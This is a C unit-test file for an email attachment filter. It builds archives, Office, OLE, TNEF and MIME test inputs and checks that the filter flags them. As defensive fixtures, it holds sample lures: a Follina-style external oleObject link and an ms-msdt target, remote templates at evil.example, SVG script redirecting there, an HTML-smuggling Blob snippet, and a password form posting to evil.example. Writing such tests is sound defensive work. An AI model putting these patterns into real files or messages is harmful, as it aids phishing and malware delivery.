/*
 * Unit tests for filters/attachments.c: extension parsing, then a table of
 * files (names, declared types, contents built here with libarchive:
 * zips, nested zips, an OOXML document with vbaProject.bin, an ODF with
 * Basic, an encrypted zip, an OLE2 file naming _VBA_PROJECT) with the
 * symbols each must raise, and a whole MIME message through the parse.
 */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include <archive.h>
#include <archive_entry.h>
#include <cmocka.h>
#include <glib.h>
#include <gsf/gsf-outfile-msole.h>
#include <gsf/gsf-outfile.h>
#include <gsf/gsf-output-memory.h>
#include <zlib.h>

#include "filters/attach_msg.h"
#include "filters/attach_pdf.h"
#include "filters/attachments.h"
#include "filters/mime.h"
#include "filters/uudecode.h"
#include "lib/xalloc.h"

static struct attach_policy *policy;
static struct str_list exts, types;

struct member {
	const char *name;
	const void *data;
	size_t len;
};

/* A zip (or encrypted zip) of the members, in memory. */
static unsigned char *
make_zip(const struct member *m, size_t n, bool encrypt, size_t *len_r)
{
	struct archive *a = archive_write_new();
	size_t cap = 1 << 20, used = 0;
	unsigned char *out = xmalloc(cap);

	archive_write_set_format_zip(a);
	if (encrypt) {
		archive_write_set_options(a, "zip:encryption=zipcrypt");
		archive_write_set_passphrase(a, "pw");
	}
	assert_int_equal(archive_write_open_memory(a, out, cap, &used),
			 ARCHIVE_OK);
	for (size_t i = 0; i < n; i++) {
		struct archive_entry *e = archive_entry_new();

		archive_entry_set_pathname(e, m[i].name);
		archive_entry_set_size(e, (la_int64_t)m[i].len);
		archive_entry_set_filetype(e, AE_IFREG);
		archive_entry_set_perm(e, 0644);
		assert_int_equal(archive_write_header(a, e), ARCHIVE_OK);
		if (m[i].len > 0)
			archive_write_data(a, m[i].data, m[i].len);
		archive_entry_free(e);
	}
	archive_write_close(a);
	archive_write_free(a);
	*len_r = used;
	return out;
}

static const char text[] = "just some harmless text\n";

/* One file compressed with gzip or xz (no archive format), in memory. */
static unsigned char *
make_compressed(const void *data, size_t len, bool xz, size_t *len_r)
{
	struct archive *a = archive_write_new();
	struct archive_entry *e = archive_entry_new();
	size_t cap = 1 << 20, used = 0;
	unsigned char *out = xmalloc(cap);

	archive_write_set_format_raw(a);
	if (xz)
		archive_write_add_filter_xz(a);
	else
		archive_write_add_filter_gzip(a);
	assert_int_equal(archive_write_open_memory(a, out, cap, &used),
			 ARCHIVE_OK);
	archive_entry_set_pathname(e, "data");
	archive_entry_set_size(e, (la_int64_t)len);
	archive_entry_set_filetype(e, AE_IFREG);
	assert_int_equal(archive_write_header(a, e), ARCHIVE_OK);
	archive_write_data(a, data, len);
	archive_entry_free(e);
	archive_write_close(a);
	archive_write_free(a);
	*len_r = used;
	return out;
}

/* OLE2 magic, filler, a directory name in UTF-16LE. */
static unsigned char *
make_ole(bool vba, size_t *len_r)
{
	static const char name[] = "_\0V\0B\0A\0_\0P\0R\0O\0J\0E\0C\0T\0";
	static const char other[] = "W\0o\0r\0d\0D\0o\0c\0u\0m\0e\0n\0t\0";
	size_t len = 2048;
	unsigned char *d = xcalloc(1, len);

	memcpy(d, "\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1", 8);
	memcpy(d + 1024, vba ? name : other, sizeof(name) - 1);
	*len_r = len;
	return d;
}

static void
check(const char *name, const char *declared, const void *data, size_t len,
      const enum attach_symbol *want, size_t nwant, bool block)
{
	struct attach_report r;
	size_t seen = 0;

	memset(&r, 0, sizeof(r));
	attach_policy_check_file(policy, name, declared, data, len, &r);
	for (size_t i = 0; i < nwant; i++) {
		if (!r.symbols[want[i]])
			fail_msg("%s: missing %s", name ? name : "(null)",
				 attach_symbol_name(want[i]));
	}
	for (int s = 0; s < ATTACH_SYM_COUNT_; s++)
		seen += r.symbols[s];
	if (seen != nwant) {
		for (size_t i = 0; i < r.count; i++)
			print_message("  got %s %s %s\n",
				      attach_symbol_name(r.findings[i].symbol),
				      r.findings[i].file, r.findings[i].detail);
		fail_msg("%s: %zu symbols, want %zu", name ? name : "(null)",
			 seen, nwant);
	}
	assert_int_equal(r.block, block);
}

#define W(...)                                                                 \
	(const enum attach_symbol[])                                           \
	{                                                                      \
		__VA_ARGS__                                                    \
	}
#define N(...)                                                                 \
	(sizeof((const enum attach_symbol[]){__VA_ARGS__}) /                   \
	 sizeof(enum attach_symbol))

static void
test_extension(void **state)
{
	static const struct {
		const char *name, *ext, *prev;
	} cases[] = {
	    {"a.exe", "exe", ""},
	    {"invoice.pdf.exe", "exe", "pdf"},
	    {"INVOICE.PDF.EXE", "exe", "pdf"},
	    {"x.exe. . .", "exe", ""},
	    {"dir/sub\\evil.js", "js", ""},
	    {"noext", "", ""},
	    {".bashrc", "bashrc", ""},
	    {"invoice.pdf      .scr", "scr", "pdf"},
	    {"", "", ""},
	};
	(void)state;
	for (size_t i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
		char ext[32], prev[32];

		attach_extension(cases[i].name, ext, sizeof(ext), prev,
				 sizeof(prev));
		assert_string_equal(ext, cases[i].ext);
		assert_string_equal(prev, cases[i].prev);
	}
}

/* A docx whose one relationship part is rels. */
static void
check_docx_rels(const char *rels_name, const char *rels,
		const enum attach_symbol *want, size_t nwant, bool block)
{
	unsigned char *docx;
	size_t len;

	docx = make_zip(
	    (struct member[]){{"[Content_Types].xml", "<Types/>", 8},
			      {"word/document.xml", "<w:document/>", 13},
			      {rels_name, rels, strlen(rels)}},
	    3, false, &len);
	check("offer.docx", NULL, docx, len, want, nwant, block);
	free(docx);
}

/* Links an OOXML document follows when it opens, and XLM macro sheets. */
static void
test_ooxml_links(void)
{
	static const char follina[] =
	    "<?xml version=\"1.0\"?><Relationships xmlns=\"http://schemas."
	    "openxmlformats.org/package/2006/relationships\"><Relationship "
	    "Id=\"rId1\" Type=\"http://schemas.openxmlformats.org/"
	    "officeDocument/2006/relationships/styles\" Target=\"styles.xml"
	    "\"/><Relationship Id=\"rId996\" Type=\"http://schemas."
	    "openxmlformats.org/officeDocument/2006/relationships/oleObject\" "
	    "Target=\"mhtml:https://evil.example/x.html!x-usc:https://evil."
	    "example/x.html\" TargetMode=\"External\"/></Relationships>";
	static const char msdt[] =
	    "<Relationships><Relationship Id='r' Type='t' TargetMode="
	    "'External' Target='  MS-MSDT:/id PCWDiagnostic'/></Relationships>";
	static const char tmpl[] =
	    "<Relationships><Relationship Id=\"rId1\" Type=\"http://schemas."
	    "openxmlformats.org/officeDocument/2006/relationships/"
	    "attachedTemplate\" Target=\"https://evil.example/t.dotm\" "
	    "TargetMode=\"External\"/></Relationships>";
	static const char unc[] =
	    "<Relationships><Relationship Type=\"http://schemas.openxmlformats"
	    ".org/officeDocument/2006/relationships/attachedTemplate\" "
	    "Target=\"\\\\198.51.100.7\\share\\t.dotx\" TargetMode=\""
	    "External\"/></Relationships>";
	static const char hyperlink[] =
	    "<Relationships><Relationship Type=\"http://schemas.openxmlformats"
	    ".org/officeDocument/2006/relationships/hyperlink\" Target=\""
	    "https://www.example.com/\" TargetMode=\"External\"/>"
	    "<Relationship Type=\"http://schemas.openxmlformats.org/"
	    "officeDocument/2006/relationships/attachedTemplate\" Target=\""
	    "file:///C:/Templates/Normal.dotm\" TargetMode=\"External\"/>"
	    "</Relationships>";
	unsigned char *xlsm;
	size_t len;

	check_docx_rels("word/_rels/document.xml.rels", follina,
			W(ATTACH_SYM_EXPLOIT_LINK), 1, true);
	check_docx_rels("word/_rels/document.xml.rels", msdt,
			W(ATTACH_SYM_EXPLOIT_LINK), 1, true);
	check_docx_rels("word/_rels/settings.xml.rels", tmpl,
			W(ATTACH_SYM_REMOTE_TEMPLATE), 1, false);
	check_docx_rels("word/_rels/settings.xml.rels", unc,
			W(ATTACH_SYM_REMOTE_TEMPLATE), 1, false);
	/* A web link, and the local template Word records. */
	check_docx_rels("word/_rels/document.xml.rels", hyperlink, NULL, 0,
			false);
	xlsm =
	    make_zip((struct member[]){{"[Content_Types].xml", "<Types/>", 8},
				       {"xl/workbook.xml", "<workbook/>", 11},
				       {"xl/macrosheets/sheet1.xml",
					"<xm:macrosheet/>", 16}},
		     3, false, &len);
	check("q3.xlsx", NULL, xlsm, len, W(ATTACH_SYM_MACRO), 1, true);
	free(xlsm);
}

static void
test_files(void **state)
{
	unsigned char *zip, *inner, *docx, *odt, *enc, *ole, *pe = NULL;
	size_t zlen, ilen, dlen, olen, elen, vlen;
	gsize pelen = 0;

	(void)state;
	/* Names. */
	check("report.pdf", "application/pdf", "%PDF-1.4\n", 9, NULL, 0, false);
	check("setup.exe", "application/octet-stream", text, sizeof(text),
	      W(ATTACH_SYM_BLOCKED_EXT), 1, true);
	check("invoice.pdf.exe", NULL, text, sizeof(text),
	      W(ATTACH_SYM_BLOCKED_EXT, ATTACH_SYM_DOUBLE_EXT), 2, true);
	check("SCRIPT.JS", NULL, text, sizeof(text), W(ATTACH_SYM_BLOCKED_EXT),
	      1, true);
	check("photo\xe2\x80\xaegpj.txt", NULL, text, sizeof(text),
	      W(ATTACH_SYM_BIDI_NAME), 1, true);
	check("disk.iso.", NULL, text, sizeof(text), W(ATTACH_SYM_BLOCKED_EXT),
	      1, true);
	/* Declared type. */
	check("x.bin", "application/x-msdownload", text, sizeof(text),
	      W(ATTACH_SYM_BLOCKED_TYPE), 1, true);

	/* Zips. */
	zip =
	    make_zip((struct member[]){{"readme.txt", text, sizeof(text)},
				       {"docs/setup.exe", text, sizeof(text)}},
		     2, false, &zlen);
	check("files.zip", "application/zip", zip, zlen,
	      W(ATTACH_SYM_ARCHIVE_EXT), 1, true);
	inner = make_zip((struct member[]){{"inner.zip", zip, zlen}}, 1, false,
			 &ilen);
	check("outer.zip", NULL, inner, ilen, W(ATTACH_SYM_ARCHIVE_EXT), 1,
	      true);
	free(inner);
	free(zip);
	zip = make_zip((struct member[]){{"a.txt", text, sizeof(text)}}, 1,
		       false, &zlen);
	check("clean.zip", NULL, zip, zlen, NULL, 0, false);
	free(zip);

	/* Office macros. */
	docx = make_zip(
	    (struct member[]){{"[Content_Types].xml", "<Types/>", 8},
			      {"word/document.xml", "<w:document/>", 13},
			      {"word/vbaProject.bin", text, sizeof(text)}},
	    3, false, &dlen);
	check("report.docm", NULL, docx, dlen, W(ATTACH_SYM_MACRO), 1, true);
	free(docx);
	docx = make_zip(
	    (struct member[]){{"[Content_Types].xml", "<Types/>", 8},
			      {"word/document.xml", "<w:document/>", 13}},
	    2, false, &dlen);
	check("report.docx", NULL, docx, dlen, NULL, 0, false);
	free(docx);
	test_ooxml_links();
	odt = make_zip(
	    (struct member[]){{"mimetype", "application/vnd.oasis", 21},
			      {"Basic/script-lc.xml", "<x/>", 4},
			      {"Basic/Standard/Module1.xml", "<x/>", 4}},
	    3, false, &olen);
	check("a.odt", NULL, odt, olen, W(ATTACH_SYM_MACRO), 1, true);
	free(odt);
	ole = make_ole(true, &vlen);
	check("old.doc", "application/msword", ole, vlen, W(ATTACH_SYM_MACRO),
	      1, true);
	free(ole);
	ole = make_ole(false, &vlen);
	check("old.doc", "application/msword", ole, vlen, NULL, 0, false);
	/* An OLE with macros inside a zip. */
	free(ole);
	ole = make_ole(true, &vlen);
	zip = make_zip((struct member[]){{"old.xls", ole, vlen}}, 1, false,
		       &zlen);
	check("old.zip", NULL, zip, zlen, W(ATTACH_SYM_MACRO), 1, true);
	free(zip);
	free(ole);

	/* Encrypted: names still checked, contents not. */
	enc = make_zip((struct member[]){{"a.txt", text, sizeof(text)}}, 1,
		       true, &elen);
	check("secret.zip", NULL, enc, elen, W(ATTACH_SYM_ENCRYPTED), 1, false);
	free(enc);
	enc = make_zip((struct member[]){{"run.exe", text, sizeof(text)}}, 1,
		       true, &elen);
	check("secret.zip", NULL, enc, elen,
	      W(ATTACH_SYM_ENCRYPTED, ATTACH_SYM_ARCHIVE_EXT), 2, true);
	free(enc);

	/* A PE under an innocent name, detected by libmagic. */
	if (g_file_get_contents("/usr/share/clamav-testfiles/clam.exe",
				(gchar **)&pe, &pelen, NULL)) {
		check("photo.jpg", "image/jpeg", pe, pelen,
		      W(ATTACH_SYM_DETECTED_TYPE), 1, true);
		/* An inline "text" part that is a PE. */
		check(NULL, "text/plain", pe, pelen,
		      W(ATTACH_SYM_DETECTED_TYPE), 1, true);
		zip = make_zip((struct member[]){{"photo.jpg", pe, pelen}}, 1,
			       false, &zlen);
		check("photos.zip", NULL, zip, zlen,
		      W(ATTACH_SYM_DETECTED_TYPE), 1, true);
		free(zip);
		/* A single compressed file: its content is checked. */
		zip = make_compressed(pe, pelen, false, &zlen);
		check("report.gz", NULL, zip, zlen, W(ATTACH_SYM_DETECTED_TYPE),
		      1, true);
		free(zip);
		zip = make_compressed(pe, pelen, true, &zlen);
		check("report.xz", NULL, zip, zlen, W(ATTACH_SYM_DETECTED_TYPE),
		      1, true);
		free(zip);
		g_free(pe);
	}
}

/* Zips that do not start the data (behind a prefix, or a second archive
 * after a first) and NTFS stream names: what 7-Zip, WinRAR or Windows
 * would show or save is checked too. */
static void
test_hidden_names(void **state)
{
	unsigned char *clean, *evil, *both;
	size_t clen, elen;

	(void)state;
	clean = make_zip((struct member[]){{"readme.txt", text, sizeof(text)}},
			 1, false, &clen);
	evil = make_zip((struct member[]){{"setup.exe", text, sizeof(text)}}, 1,
			false, &elen);
	both = malloc(clen + elen + 1000);
	assert_non_null(both);
	/* two archives concatenated */
	memcpy(both, clean, clen);
	memcpy(both + clen, evil, elen);
	check("a.zip", "application/zip", both, clen + elen,
	      W(ATTACH_SYM_ARCHIVE_EXT), 1, true);
	/* an archive behind 1000 bytes of something else */
	memset(both, 'x', 1000);
	memcpy(both + 1000, evil, elen);
	check("a.pdf", "application/pdf", both, 1000 + elen,
	      W(ATTACH_SYM_ARCHIVE_EXT), 1, true);
	/* a clean one behind a prefix stays clean */
	memcpy(both + 1000, clean, clen);
	check("b.pdf", "application/pdf", both, 1000 + clen, NULL, 0, false);
	free(both);
	free(clean);
	free(evil);
	check("setup.exe::$DATA", NULL, text, sizeof(text),
	      W(ATTACH_SYM_BLOCKED_EXT), 1, true);
	check("dir\\run.js:zone", NULL, text, sizeof(text),
	      W(ATTACH_SYM_BLOCKED_EXT), 1, true);
	check("notes.one", NULL, text, sizeof(text), W(ATTACH_SYM_BLOCKED_EXT),
	      1, true);
	check("report:2026.txt", NULL, text, sizeof(text), NULL, 0, false);
}

/* Script in attached SVG and HTML files; the message's own HTML body and
 * plain text that only mention such things are left to the spam rules. */
static void
test_active_content(void **state)
{
	static const char svg_script[] =
	    "<?xml version=\"1.0\"?>\n<svg "
	    "xmlns=\"http://www.w3.org/2000/svg\">"
	    "<script>location='https://evil.example/'</script></svg>";
	static const char svg_onload[] =
	    "<svg xmlns=\"http://www.w3.org/2000/svg\" onload =\"go()\"/>";
	static const char svg_clean[] =
	    "<svg xmlns=\"http://www.w3.org/2000/svg\"><circle r=\"4\" "
	    "fill=\"red\"/><text>online</text></svg>";
	static const char smuggle[] =
	    "<html><body><script>var b=atob('TVqQ');var f=new Blob([b]);"
	    "URL.createObjectURL(f);</script></body></html>";
	static const char report[] =
	    "<html><script>draw()</script><p>Q3 figures</p></html>";
	static const char login[] =
	    "<html><form action=\"https://evil.example/\">Password: <input "
	    "name=p TYPE = 'Password'></form></html>";
	char wide[2 * sizeof(svg_script) + 2];
	size_t wlen = 0;
	unsigned char *zip;
	size_t zlen;

	(void)state;
	check("logo.svg", "image/svg+xml", svg_script, strlen(svg_script),
	      W(ATTACH_SYM_ACTIVE_SVG), 1, true);
	check("logo.svg", NULL, svg_onload, strlen(svg_onload),
	      W(ATTACH_SYM_ACTIVE_SVG), 1, true);
	check(NULL, "image/svg+xml", svg_onload, strlen(svg_onload),
	      W(ATTACH_SYM_ACTIVE_SVG), 1, true);
	check("logo.svg", "image/svg+xml", svg_clean, strlen(svg_clean), NULL,
	      0, false);
	/* an SVG without an extension, known by its first element */
	check("chart", "application/octet-stream", svg_script,
	      strlen(svg_script), W(ATTACH_SYM_ACTIVE_SVG), 1, true);
	/* UTF-16, which browsers render */
	wide[wlen++] = '\xff';
	wide[wlen++] = '\xfe';
	for (size_t i = 0; svg_script[i] != '\0'; i++) {
		wide[wlen++] = svg_script[i];
		wide[wlen++] = '\0';
	}
	check("logo.svg", NULL, wide, wlen, W(ATTACH_SYM_ACTIVE_SVG), 1, true);
	check("invoice.html", "text/html", smuggle, strlen(smuggle),
	      W(ATTACH_SYM_SMUGGLING, ATTACH_SYM_HTML_SCRIPT), 2, true);
	check("report.htm", "text/html", report, strlen(report),
	      W(ATTACH_SYM_HTML_SCRIPT), 1, false);
	check("secure.html", NULL, login, strlen(login),
	      W(ATTACH_SYM_HTML_PASSWORD), 1, false);
	/* a named text/html part is a file too */
	check("document", "text/html", smuggle, strlen(smuggle),
	      W(ATTACH_SYM_SMUGGLING, ATTACH_SYM_HTML_SCRIPT), 2, true);
	/* not attached files */
	check(NULL, "text/html", smuggle, strlen(smuggle), NULL, 0, false);
	check("notes.txt", "text/plain", svg_onload, strlen(svg_onload), NULL,
	      0, false);
	zip = make_zip(
	    (struct member[]){{"img/logo.svg", svg_onload, strlen(svg_onload)}},
	    1, false, &zlen);
	check("images.zip", NULL, zip, zlen, W(ATTACH_SYM_ACTIVE_SVG), 1, true);
	free(zip);
}

/* One TNEF attribute (level, id, data) appended at *pos. */
static void
tnef_attr(unsigned char *out, size_t *pos, unsigned int level, uint32_t id,
	  const void *data, uint32_t n)
{
	unsigned int sum = 0;

	out[(*pos)++] = (unsigned char)level;
	for (int i = 0; i < 4; i++)
		out[(*pos)++] = (unsigned char)(id >> (8 * i));
	for (int i = 0; i < 4; i++)
		out[(*pos)++] = (unsigned char)(n >> (8 * i));
	memcpy(out + *pos, data, n);
	for (uint32_t i = 0; i < n; i++)
		sum += ((const unsigned char *)data)[i];
	*pos += n;
	out[(*pos)++] = (unsigned char)sum;
	out[(*pos)++] = (unsigned char)(sum >> 8);
}

/* winmail.dat: Outlook shows the files of a TNEF stream as attachments,
 * by their title or their long file name (MAPI, UTF-16 here). */
static void
test_tnef(void **state)
{
	static const unsigned char rend[14] = {1};
	static const unsigned char version[4] = {0, 0, 1, 0};
	/* count 1, PT_UNICODE PR_ATTACH_LONG_FILENAME, 1 value, length */
	static const unsigned char mapi_head[] = {1, 0,	   0, 0, 0x1f, 0,
						  7, 0x37, 1, 0, 0,    0};
	const char *long_name = "invoice.pdf.js";
	unsigned char out[4096], mapi[256], *zip;
	size_t pos = 0, m = 0, zlen;
	uint32_t wide = 2 * (uint32_t)(strlen(long_name) + 1);

	(void)state;
	memcpy(out, "\x78\x9f\x3e\x22\x01\x00", 6);
	pos = 6;
	tnef_attr(out, &pos, 1, 0x00089006, version, sizeof(version));
	tnef_attr(out, &pos, 2, 0x00069002, rend, sizeof(rend));
	tnef_attr(out, &pos, 2, 0x00018010, "setup.exe", 10);
	tnef_attr(out, &pos, 2, 0x0006800f, text, sizeof(text));
	check("winmail.dat", "application/ms-tnef", out, pos,
	      W(ATTACH_SYM_ARCHIVE_EXT), 1, true);
	/* the long name counts, not only the title */
	pos = 6;
	tnef_attr(out, &pos, 2, 0x00069002, rend, sizeof(rend));
	tnef_attr(out, &pos, 2, 0x00018010, "invoice.pdf", 12);
	memcpy(mapi, mapi_head, sizeof(mapi_head));
	m = sizeof(mapi_head);
	for (int i = 0; i < 4; i++)
		mapi[m++] = (unsigned char)(wide >> (8 * i));
	for (size_t i = 0; i <= strlen(long_name); i++) {
		mapi[m++] = (unsigned char)long_name[i];
		mapi[m++] = 0;
	}
	tnef_attr(out, &pos, 2, 0x00069005, mapi, (uint32_t)m);
	check("winmail.dat", NULL, out, pos,
	      W(ATTACH_SYM_ARCHIVE_EXT, ATTACH_SYM_DOUBLE_EXT), 2, true);
	/* a zip inside, opened like any member */
	zip = make_zip((struct member[]){{"run.exe", text, sizeof(text)}}, 1,
		       false, &zlen);
	assert_true(zlen < 2048);
	pos = 6;
	tnef_attr(out, &pos, 2, 0x00069002, rend, sizeof(rend));
	tnef_attr(out, &pos, 2, 0x00018010, "files.zip", 10);
	tnef_attr(out, &pos, 2, 0x0006800f, zip, (uint32_t)zlen);
	free(zip);
	check("winmail.dat", NULL, out, pos, W(ATTACH_SYM_ARCHIVE_EXT), 1,
	      true);
	/* truncated: an attribute longer than the stream ends the walk */
	pos = 6;
	tnef_attr(out, &pos, 2, 0x00069002, rend, sizeof(rend));
	tnef_attr(out, &pos, 2, 0x00018010, "notes.txt", 10);
	out[pos++] = 2;
	memcpy(out + pos, "\x10\x80\x01\x00\xff\xff\xff\x7f", 8);
	pos += 8;
	check("winmail.dat", NULL, out, pos, NULL, 0, false);
}

/* An encrypted archive with its password in the message: the way
 * malware passes scanners. The same archive without one is only
 * ATTACH_ENCRYPTED. */
static void
test_encrypted_with_password(void **state)
{
	static const char *const bodies[] = {
	    "Invoice attached. Password: 4711", "Das Kennwort lautet 4711",
	    "\xd0\xbf\xd0\xb0\xd1\x80\xd0\xbe\xd0\xbb\xd1\x8c 4711",
	    "Invoice attached.", NULL};
	unsigned char *zip;
	size_t zlen;
	gchar *b64;

	(void)state;
	zip = make_zip((struct member[]){{"invoice.pdf", text, sizeof(text)}},
		       1, true, &zlen);
	b64 = g_base64_encode(zip, zlen);
	for (size_t i = 0; bodies[i] != NULL; i++) {
		char *msg = xasprintf(
		    "Subject: x\r\nMIME-Version: 1.0\r\nContent-Type: "
		    "multipart/mixed; boundary=b\r\n\r\n--b\r\nContent-Type: "
		    "text/plain; charset=utf-8\r\n\r\n%s\r\n--b\r\n"
		    "Content-Type: application/zip\r\nContent-Disposition: "
		    "attachment; filename=\"invoice.zip\"\r\n"
		    "Content-Transfer-Encoding: base64\r\n\r\n%s\r\n--b--\r\n",
		    bodies[i], b64);
		struct mime_message *m =
		    mime_parse_buffer(msg, strlen(msg), NULL);
		struct attach_report r;

		attach_policy_check(policy, m, &r);
		assert_true(r.symbols[ATTACH_SYM_ENCRYPTED]);
		if (r.symbols[ATTACH_SYM_ENCRYPTED_PASSWORD] !=
		    (bodies[i + 1] != NULL))
			fail_msg("%s: password finding %d", bodies[i],
				 r.symbols[ATTACH_SYM_ENCRYPTED_PASSWORD]);
		assert_false(r.block);
		mime_message_free(&m);
		free(msg);
	}
	g_free(b64);
	free(zip);
}

static void
test_limits(void **state)
{
	struct member many[40];
	unsigned char *zip, *z2, *z3, *z4, *z5;
	size_t len, l2, l3, l4, l5;
	char names[40][16];

	(void)state;
	for (int i = 0; i < 40; i++) {
		snprintf(names[i], sizeof(names[i]), "f%d.txt", i);
		many[i] = (struct member){names[i], text, sizeof(text)};
	}
	zip = make_zip(many, 40, false, &len);
	/* max_archive_entries is 32 in this test's policy. */
	check("many.zip", NULL, zip, len, W(ATTACH_SYM_ARCHIVE_LIMIT), 1,
	      false);
	free(zip);
	/* Padding puts no name out of reach: past the limit names are
	 * still checked. */
	many[39].name = "run.exe";
	zip = make_zip(many, 40, false, &len);
	check("padded.zip", NULL, zip, len,
	      W(ATTACH_SYM_ARCHIVE_LIMIT, ATTACH_SYM_ARCHIVE_EXT), 2, true);
	free(zip);
	/* The name of a compressed file's content. */
	zip = make_compressed(text, sizeof(text), false, &len);
	check("notes.txt.gz", NULL, zip, len, NULL, 0, false);
	check("setup.exe.gz", NULL, zip, len, W(ATTACH_SYM_ARCHIVE_EXT), 1,
	      true);
	free(zip);
	/* Three archive levels pass, a fourth is beyond max_archive_depth. */
	zip = make_zip((struct member[]){{"a.exe", text, sizeof(text)}}, 1,
		       false, &len);
	z2 = make_zip((struct member[]){{"1.zip", zip, len}}, 1, false, &l2);
	z3 = make_zip((struct member[]){{"2.zip", z2, l2}}, 1, false, &l3);
	z4 = make_zip((struct member[]){{"3.zip", z3, l3}}, 1, false, &l4);
	z5 = make_zip((struct member[]){{"4.zip", z4, l4}}, 1, false, &l5);
	check("deep.zip", NULL, z3, l3, W(ATTACH_SYM_ARCHIVE_EXT), 1, true);
	/* What lies deeper is unchecked, not passed as clean. */
	check("deeper.zip", NULL, z4, l4, W(ATTACH_SYM_UNCHECKED), 1, false);
	free(zip);
	free(z2);
	free(z3);
	free(z4);
	free(z5);
	/* Garbage that starts like a zip. */
	check("bad.zip", NULL, "PK\x03\x04garbage", 11, NULL, 0, false);
}

/* More findings than the report lists: a blocking one still gets a place
 * (it displaces one that does not block), so the verdict names it. */
static void
test_full_report_keeps_the_block(void **state)
{
	struct attach_report r;
	bool listed = false;
	unsigned char *zip;
	char names[40][16];
	struct member many[40];
	size_t len;

	(void)state;
	for (int i = 0; i < 40; i++) {
		snprintf(names[i], sizeof(names[i]), "f%d.txt", i);
		many[i] = (struct member){names[i], text, sizeof(text)};
	}
	zip = make_zip(many, 40, false, &len);
	memset(&r, 0, sizeof(r));
	for (int i = 0; i < ATTACH_MAX_FINDINGS + 4; i++)
		attach_policy_check_file(policy, "many.zip", NULL, zip, len,
					 &r);
	assert_int_equal(r.count, ATTACH_MAX_FINDINGS);
	assert_false(r.block);
	attach_policy_check_file(policy, "payload.exe", NULL,
				 (const unsigned char *)text, sizeof(text), &r);
	assert_true(r.block);
	for (size_t i = 0; i < r.count; i++)
		if (r.findings[i].block &&
		    strcmp(r.findings[i].file, "payload.exe") == 0)
			listed = true;
	assert_true(listed);
	assert_int_equal(r.count, ATTACH_MAX_FINDINGS);
	free(zip);
}

static void
test_message(void **state)
{
	unsigned char *zip;
	size_t zlen;
	gchar *b64;
	char *msg;
	struct mime_message *m;
	struct attach_report r;

	(void)state;
	zip = make_zip((struct member[]){{"setup.exe", text, sizeof(text)}}, 1,
		       false, &zlen);
	b64 = g_base64_encode(zip, zlen);
	msg = xasprintf(
	    "Subject: x\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; "
	    "boundary=b\r\n\r\n--b\r\nContent-Type: text/plain\r\n\r\nhi\r\n"
	    "--b\r\nContent-Type: application/zip\r\nContent-Disposition: "
	    "attachment; filename=\"files.zip\"\r\n"
	    "Content-Transfer-Encoding: base64\r\n\r\n%s\r\n--b--\r\n",
	    b64);
	m = mime_parse_buffer(msg, strlen(msg), NULL);
	attach_policy_check(policy, m, &r);
	assert_true(r.block);
	assert_true(r.symbols[ATTACH_SYM_ARCHIVE_EXT]);
	assert_int_equal(r.count, 1);
	assert_string_equal(r.findings[0].file, "setup.exe");
	mime_message_free(&m);
	free(msg);
	g_free(b64);
	free(zip);

	msg = xasprintf("Subject: x\r\n\r\nplain body\r\n");
	m = mime_parse_buffer(msg, strlen(msg), NULL);
	attach_policy_check(policy, m, &r);
	assert_false(r.block);
	assert_int_equal(r.count, 0);
	mime_message_free(&m);
	free(msg);
}

/* Names given other ways than one filename: both of two differing names,
 * and uuencoded files in a text body ("begin MODE NAME"); a "begin" line
 * that is not one is left alone. */
static void
test_message_other_names(void **state)
{
	static const struct {
		const char *msg;
		const char *file; /* the blocked name, NULL: none */
	} cases[] = {
	    {"MIME-Version: 1.0\r\nContent-Type: application/octet-stream; "
	     "name=\"setup.exe\"\r\nContent-Disposition: attachment; "
	     "filename=\"readme.txt\"\r\n\r\nMZ\r\n",
	     "setup.exe"},
	    {"MIME-Version: 1.0\r\nContent-Type: application/octet-stream; "
	     "name=\"readme.txt\"\r\nContent-Disposition: attachment; "
	     "filename=\"run.js\"\r\n\r\nx\r\n",
	     "run.js"},
	    {"Subject: x\r\n\r\nhere\r\nbegin 644 setup.exe\r\n\"35H`\r\n`"
	     "\r\nend\r\n",
	     "setup.exe"},
	    {"Subject: x\r\n\r\nbegin 0755 tool.scr\n`\nend\n", "tool.scr"},
	    {"Subject: x\r\n\r\nbegin 644 notes.txt\r\n`\r\nend\r\n", NULL},
	    {"Subject: x\r\n\r\nbegin the meeting at setup.exe time\r\n", NULL},
	    {"Subject: x\r\n\r\nbegin 64 setup.exe\r\n", NULL},
	    /* An attached message in base64 ("Subject: i" and a .exe part),
	     * as a message/rfc822 part and as an .eml file. */
	    {"MIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=b"
	     "\r\n\r\n--b\r\nContent-Type: message/rfc822\r\n"
	     "Content-Transfer-Encoding: base64\r\n\r\n"
	     "U3ViamVjdDogaQ0KQ29udGVudC1UeXBlOiBhcHBsaWNhdGlvbi9vY3RldC1zdHJl"
	     "YW07IG5hbWU9c2V0dXAuZXhlDQoNCk1aDQo=\r\n--b--\r\n",
	     "setup.exe"},
	    {"MIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=b"
	     "\r\n\r\n--b\r\nContent-Type: application/octet-stream; "
	     "name=fwd.eml\r\nContent-Transfer-Encoding: base64\r\n\r\n"
	     "U3ViamVjdDogaQ0KQ29udGVudC1UeXBlOiBhcHBsaWNhdGlvbi9vY3RldC1zdHJl"
	     "YW07IG5hbWU9c2V0dXAuZXhlDQoNCk1aDQo=\r\n--b--\r\n",
	     "setup.exe"},
	};
	struct mime_message *m;
	struct attach_report r;

	(void)state;
	for (size_t i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
		m = mime_parse_buffer(cases[i].msg, strlen(cases[i].msg), NULL);
		attach_policy_check(policy, m, &r);
		if (cases[i].file == NULL) {
			if (r.block)
				fail_msg("case %zu blocked %s", i,
					 r.findings[0].file);
		} else {
			if (!r.block || r.count == 0 ||
			    strcmp(r.findings[0].file, cases[i].file) != 0)
				fail_msg("case %zu: want %s blocked", i,
					 cases[i].file);
		}
		mime_message_free(&m);
	}
}

static int
setup(void **state)
{
	struct attach_config c;
	char *error = NULL, *copy, *save = NULL, *tok;

	(void)state;
	copy = xstrdup(attach_default_extensions);
	for (tok = strtok_r(copy, ",", &save); tok;
	     tok = strtok_r(NULL, ",", &save))
		str_list_add(&exts, tok);
	free(copy);
	copy = xstrdup(attach_default_types);
